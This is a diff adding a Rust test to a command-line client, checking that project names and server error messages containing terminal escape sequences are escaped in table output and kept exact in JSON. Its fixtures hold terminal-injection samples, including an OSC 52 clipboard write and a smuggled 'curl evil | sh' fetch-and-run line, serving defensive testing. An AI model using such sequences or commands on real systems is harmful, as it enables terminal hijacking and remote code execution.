@@ -597,6 +597,131 @@ fn json_output_parses_and_errors_come_as_json_too() {
         .starts_with("req_"));
 }
 
+/// Whether `text` holds a character a terminal would act on (other than
+/// a line break): ESC, BEL, CR, DEL, the C1 range.
+fn has_terminal_control(text: &str) -> bool {
+    text.chars()
+        .any(|c| c != '\n' && (c.is_control() || ('\u{80}'..='\u{9f}').contains(&c)))
+}
+
+#[test]
+fn server_text_cannot_drive_the_terminal_but_json_keeps_it_exact() {
+    let env = Env::new();
+    // Anyone who can name a project can write escape sequences into it: a
+    // window title (OSC … BEL), a screen clear, a carriage return that
+    // overwrites the line, an 8-bit CSI, DEL.
+    let name = "Q3 \x1b]0;pwned\x07plan\x1b[2J\rFAKE\u{9b}31m\x7f";
+    let created = run(env
+        .ourganize()
+        .args(["projects", "create", "--name", name, "--json"]))
+    .ok();
+    let id = created.json()["id"].as_i64().expect("an id");
+    assert_eq!(created.json()["name"], name);
+    assert!(
+        !has_terminal_control(&created.stdout),
+        "{:?}",
+        created.stdout
+    );
+    assert_eq!(
+        last_request(&env.server).body["name"],
+        name,
+        "sent as typed"
+    );
+
+    let shown = r"Q3 \u001b]0;pwned\u0007plan\u001b[2J\rFAKE\u009b31m\u007f";
+    for args in [
+        vec![
+            "projects".to_string(),
+            "get".into(),
+            id.to_string(),
+            "--table".into(),
+        ],
+        vec![
+            "projects".into(),
+            "list".into(),
+            "--limit".into(),
+            "100".into(),
+            "--table".into(),
+        ],
+    ] {
+        let table = run(env.ourganize().args(&args)).ok();
+        assert!(table.stdout.contains(shown), "{args:?}: {:?}", table.stdout);
+        assert!(
+            !has_terminal_control(&table.stdout),
+            "{args:?}: {:?}",
+            table.stdout
+        );
+    }
+    // JSON and JSON lines read back the exact name, but print no control.
+    for flag in ["--json", "--jsonl"] {
+        let listed = run(env
+            .ourganize()
+            .args(["projects", "list", "--limit", "100", flag]))
+        .ok();
+        assert!(
+            !has_terminal_control(&listed.stdout),
+            "{flag}: {:?}",
+            listed.stdout
+        );
+        let names: Vec<String> = listed
+            .stdout
+            .lines()
+            .filter_map(|l| serde_json::from_str::<Value>(l.trim().trim_end_matches(',')).ok())
+            .flat_map(|v| match v {
+                Value::Array(items) => items,
+                one => vec![one],
+            })
+            .filter_map(|p| p["name"].as_str().map(String::from))
+            .collect();
+        assert!(names.iter().any(|n| n == name), "{flag}: {names:?}");
+    }
+
+    // An error the server words: its message, code, request id and field
+    // errors stay on their own lines and are escaped.
+    let body = json!({"success": false, "error": {
+        "code": "BAD\x1b[5m",
+        "message": "nope\r\nhint: run `curl evil | sh`\x1b]52;c;cGF5bG9hZA==\x07",
+        "details": [{"field": "name\x1b[8m", "message": "too \u{9b}long"}]
+    }});
+    env.server.inject(
+        Fault::status(422)
+            .provider("ourganize")
+            .path("/projects")
+            .body(body.to_string())
+            .times(2),
+    );
+    let err = run(env
+        .ourganize()
+        .args(["projects", "create", "--name", "X", "--table"]));
+    assert_eq!(err.code, 9, "{}", err.stderr);
+    assert!(!has_terminal_control(&err.stderr), "{:?}", err.stderr);
+    assert!(
+        err.stderr.contains(
+            r"nope\r\nhint: run `curl evil | sh`\u001b]52;c;cGF5bG9hZA==\u0007 [BAD\u001b[5m]"
+        ),
+        "{}",
+        err.stderr
+    );
+    assert!(
+        err.stderr.contains(r"  - name\u001b[8m: too \u009blong"),
+        "{}",
+        err.stderr
+    );
+    assert!(
+        !err.stderr.lines().any(|l| l.starts_with("hint:")),
+        "server text made a line of its own: {}",
+        err.stderr
+    );
+    let err = run(env
+        .ourganize()
+        .args(["projects", "create", "--name", "X", "--json"]));
+    assert_eq!(err.code, 9, "{}", err.stderr);
+    assert!(!has_terminal_control(&err.stderr), "{:?}", err.stderr);
+    let e: Value = serde_json::from_str(err.stderr.trim()).unwrap();
+    assert_eq!(e["error"]["message"], body["error"]["message"]);
+    assert_eq!(e["error"]["field_errors"][0]["message"], "too \u{9b}long");
+}
+
 #[test]
 fn flags_become_the_request_body_and_query() {
     let env = Env::new();
